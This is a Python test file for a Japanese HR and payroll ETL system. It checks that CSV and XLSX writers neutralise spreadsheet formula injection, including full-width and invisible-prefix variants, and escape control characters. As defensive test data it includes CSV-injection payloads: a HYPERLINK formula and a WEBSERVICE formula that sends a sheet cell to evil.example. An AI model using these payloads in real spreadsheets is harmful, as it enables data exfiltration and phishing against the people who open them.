"""Formula injection that survives a later transformation (issue 16, kind 1): one guard, applied
last, to every writer; full-width ＝＋－＠ and invisible characters before them count."""
from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import openpyxl
import pytest
from support.workbook import hr_workbook

from etl.attendance.frame import build_frame, render_csv
from etl.attendance.items import BY_KEY, Column
from etl.attendance.transform import MonthTable
from etl.clock import JST
from etl.errors import Problem
from etl.ledger.export import encode_csv, write_xlsx
from etl.ledger.load import read_ledger
from etl.records import Employee, Masters
from etl.text import is_risky, neutralise, unneutralise
from etl.workbook.annotate import annotate
from etl.workbook.model import SHEET_DIVISIONS, SHEET_MASTER, SHEET_OVERRIDES, SHEET_TYPES
from etl.workbook.read import read_workbook
from etl.workbook.refresh import refresh
from etl.workbook.template import build_template

LINK = '=HYPERLINK("http://evil.example/","給与明細")'
RISKY_CELLS = [
    "=1+1", "+81", "-1", "@SUM(A1)", "\tx", "\rx",
    "＝1+1", "＋81", "－1", "＠SUM(A1)",  # full-width: Excel in Japanese runs them too
    "\u200b" + LINK, "\ufeff+1", "\u202e=1", "\u200f@x", "\u2066-1", "\u00ad=1", "\ufe0f=1",
    " =1", "\u3000＝1", "\u200b\u200c\u200d=1",
]
SAFE_CELLS = ["", "山田 太郎", "a=b", "1-2", "'山田", "\u200b山田", "~1", "ー1"]


@pytest.mark.parametrize("text", RISKY_CELLS, ids=ascii)
def test_risky_cells_are_prefixed_and_come_back(text):
    assert is_risky(text)
    assert neutralise(text) == "'" + text
    assert unneutralise(neutralise(text)) == text


@pytest.mark.parametrize("text", SAFE_CELLS, ids=ascii)
def test_safe_cells_are_left_alone(text):
    assert not is_risky(text)
    assert neutralise(text) == text and unneutralise(text) == text


def _cells(data: bytes, encoding: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(encoding))))


def _frame(names: list[str], header: str = "氏名"):
    table = MonthTable("2026-10", {"employee_code": [f"{i:04d}" for i in range(1, len(names) + 1)], "name": names})
    return build_frame(table, [Column("従業員番号", BY_KEY["employee_code"], "文字"), Column(header, BY_KEY["name"], "文字")])


@pytest.mark.parametrize("encoding", ["cp932", "utf-8-sig"])
def test_payroll_csv_guard_runs_after_the_cp932_mapping(encoding):
    names = ["\u200b" + LINK, "\u2212SUM(1)", "\u2013SUM(1)", "\ufeff\u200b@x", "\u00a0=1", "山田"]
    data, _ = render_csv(_frame(names), encoding)
    rows = _cells(data, encoding)
    for row in rows[1:-1]:
        # – (en dash) is harmless in UTF-8; in cp932 it becomes －, which the guard then catches
        assert row[1].startswith("'") or (encoding != "cp932" and row[1] == names[2]), row
    assert rows[-1][1] == "山田"
    if encoding == "cp932":
        assert rows[1][1] == "'" + LINK  # the zero-width space dropped, the guard still first
        assert rows[2][1] == "'－SUM(1)"  # − became －, which the guard then caught


@pytest.mark.parametrize("header", ["\u200b=1+1", "\ufeff" + LINK, "\u2212cmd", "＝1"], ids=ascii)
def test_an_output_column_header_is_guarded_after_the_mapping(header):
    data, _ = render_csv(_frame(["山田"], header), "cp932")
    assert _cells(data, "cp932")[0][1].startswith("'")


def _employee(code: str, last: str, **kw) -> Employee:
    return Employee(code=code, last_name=last, first_name="太郎", gender="male", **kw)


def test_ledger_export_guards_after_the_cp932_look_alikes_and_loads_back(tmp_path):
    people = [_employee("00001", "\u2212SUM(1)"), _employee("00002", LINK),
              _employee("00003", "＠x", department_name="＝1+1")]
    data = encode_csv(people, "cp932")
    rows = _cells(data, "cp932")
    assert [r[1] for r in rows[1:]] == ["'－SUM(1)", "'" + LINK, "'＠x"]
    risky = [c for row in rows for c in row if is_risky(c)]
    assert not risky
    path = tmp_path / "ledger.csv"
    path.write_bytes(encode_csv(people, "utf-8-sig"))
    loaded = read_ledger(path).employees
    assert [e.last_name for e in loaded] == [p.last_name for p in people]


def _formulas(path) -> list[str]:
    """Every formula (<f>) in the workbook's sheets, as stored."""
    with zipfile.ZipFile(path) as zf:
        return [name for name in zf.namelist() if name.startswith("xl/worksheets/") and b"<f>" in zf.read(name)
                or name.startswith("xl/worksheets/") and b"<f " in zf.read(name)]


HOSTILE_DEPARTMENTS = {"D1": '=WEBSERVICE("http://evil.example/"&マスタ!A2)', "D2": "＝1", "=3": "+cmd"}
HOSTILE_CLASSES = ["=1+1", "@x", "正社員"]


def test_template_writes_ledger_values_as_text(tmp_path):
    path = build_template(tmp_path / "mapping.xlsx", Masters({"=1": "-x"}, {"@2": "+y"}), HOSTILE_DEPARTMENTS,
                          HOSTILE_CLASSES)
    assert _formulas(path) == []
    wb = openpyxl.load_workbook(path)
    assert wb[SHEET_DIVISIONS]["B2"].value == HOSTILE_DEPARTMENTS["D1"]


def test_refresh_writes_ledger_values_as_text_keeps_hr_formulas_and_does_not_crash(tmp_path):
    def hr_formula(wb):
        wb[SHEET_OVERRIDES]["G2"] = "=1+2"  # HR's own formula in a note: kept as it is

    path = hr_workbook(tmp_path, hr_formula)
    result = refresh(path, Masters({"1100": "総務"}, {"1": "正社員"}), HOSTILE_DEPARTMENTS, HOSTILE_CLASSES,
                     dt.datetime(2026, 4, 10, 12, 0, tzinfo=JST))
    assert "=1+1" in result.added_classes and "=3" in result.added_departments
    assert _formulas(path) == [_sheet_file(path, SHEET_OVERRIDES)]
    wb = openpyxl.load_workbook(path)
    values = {c.value for row in wb[SHEET_MASTER].iter_rows() for c in row} | {
        c.value for row in wb[SHEET_TYPES].iter_rows() for c in row}
    assert HOSTILE_DEPARTMENTS["D1"] in values and "=1+1" in values
    # the validator names the text that looks like a formula instead of passing it
    book = read_workbook(path)
    assert any(p.code == "formula-in-cell" for p in book.read_problems)
    # a second refresh does not append the same rows again
    again = refresh(path, Masters({"1100": "総務"}, {"1": "正社員"}), HOSTILE_DEPARTMENTS, HOSTILE_CLASSES,
                    dt.datetime(2026, 4, 10, 13, 0, tzinfo=JST))
    assert again.added_classes == [] and again.added_departments == []


def _sheet_file(path, title: str) -> str:
    wb = openpyxl.load_workbook(path)
    return f"xl/worksheets/sheet{wb.sheetnames.index(title) + 1}.xml"


def test_annotate_writes_problem_text_as_text(tmp_path):
    path = hr_workbook(tmp_path)
    problem = Problem.of("unknown-division", sheet=SHEET_DIVISIONS, cell="C2", value="=1+1")
    problem = Problem(problem.severity, problem.code, "=HYPERLINK(\"http://evil.example/\")", problem.sheet,
                      problem.cell, "@x", problem.value)
    out = annotate(path, [problem], tmp_path / "annotated.xlsx")
    assert _formulas(out) == []


def test_ledger_xlsx_export_holds_no_formula(tmp_path):
    path = write_xlsx(tmp_path / "ledger.xlsx", [_employee("00001", "=1+1", department_name="＝2")])
    assert _formulas(path) == []


# control characters XML cannot hold, from an API answer or a ledger the load did not check
# (pull-employees): every XLSX writer shows them as \xNN instead of failing the save
CONTROL = {"D\x01": "営業\x02部", "D\x1b[31m": "\x0b総務"}


def test_template_and_refresh_show_control_characters_instead_of_crashing(tmp_path):
    masters = Masters({"1\x03": "本社\x04"}, {"2": "正社員\x1f"})
    path = build_template(tmp_path / "mapping.xlsx", masters, CONTROL, ["正社員\x00", "=\x08"])
    wb = openpyxl.load_workbook(path)
    assert wb[SHEET_DIVISIONS]["A2"].value == "D\\x01" and wb[SHEET_DIVISIONS]["B2"].value == "営業\\x02部"
    assert wb[SHEET_TYPES]["A3"].value == "=\\x08" and _formulas(path) == []
    master = {c.value for row in wb[SHEET_MASTER].iter_rows() for c in row}
    assert {"1\\x03 本社\\x04", "本社\\x04", "正社員\\x1f"} <= master
    hr = hr_workbook(tmp_path, name="hr.xlsx")
    result = refresh(hr, masters, CONTROL, ["契約\x05"], dt.datetime(2026, 4, 10, 12, 0, tzinfo=JST))
    assert "契約\x05" in result.added_classes
    values = {c.value for row in openpyxl.load_workbook(hr)[SHEET_TYPES].iter_rows() for c in row}
    assert "契約\\x05" in values


def test_annotate_and_ledger_export_show_control_characters_instead_of_crashing(tmp_path):
    path = hr_workbook(tmp_path)
    problem = Problem.of("unknown-division", sheet=SHEET_DIVISIONS, cell="C2", value="9\x01")
    out = annotate(path, [problem], tmp_path / "annotated.xlsx")
    wb = openpyxl.load_workbook(out)
    assert "9\\x01" in wb[SHEET_DIVISIONS]["C2"].comment.text
    assert any("9\\x01" in str(c.value) for row in wb.worksheets[0].iter_rows() for c in row)
    xlsx = write_xlsx(tmp_path / "ledger.xlsx", [_employee("00001", "山\x01田", department_name="\x1b[0m")])
    row = [c.value for c in openpyxl.load_workbook(xlsx).worksheets[0][2]]
    assert "山\\x01田" in row and "\\x1b[0m" in row
